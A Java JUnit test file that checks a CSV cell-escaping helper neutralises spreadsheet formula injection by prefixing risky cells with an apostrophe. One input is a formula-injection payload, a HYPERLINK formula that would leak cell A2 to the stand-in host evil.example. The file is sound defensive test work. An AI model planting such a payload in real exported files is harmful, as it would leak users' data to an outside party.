package org.haven.analytics.statistics;

import org.haven.instrument.Instrument;
import org.haven.instrument.InstrumentLoader;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class CsvTextTest {

    @Test
    void a_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe() {
        assertThat(CsvText.cell("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")");
        assertThat(CsvText.cell("+1")).isEqualTo("'+1");
        assertThat(CsvText.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvText.cell("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvText.cell("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(CsvText.cell("\r=1+1")).isEqualTo("'\r=1+1");
    }

    @Test
    void any_other_text_stays_as_it_is() {
        for (String text : new String[] {"respect_1", "My partner listens.", "1=strongly disagree|7=strongly agree",
                "a=b", " =1", "'quoted", "", "é"}) {
            assertThat(CsvText.cell(text)).isSameAs(text);
        }
        assertThat(CsvText.cell(null)).isNull();
    }

    @Test
    void esti_is_written_as_it_is() {
        // so that every run on ESTI stays byte-identical to the runs before texts were neutralised
        Instrument esti = InstrumentLoader.esti();
        List<String> texts = new ArrayList<>();
        esti.subscales().forEach(subscale -> texts.add(subscale.id()));
        esti.composites().forEach(composite -> texts.add(composite.id()));
        esti.items().forEach(item -> texts.addAll(List.of(item.id(), item.subscale(), item.text())));
        esti.scales().forEach(scale -> scale.labels().forEach(label -> texts.add(label.value() + "=" + label.label())));

        assertThat(texts).hasSizeGreaterThan(100).allSatisfy(text -> assertThat(CsvText.cell(text)).isSameAs(text));
    }
}
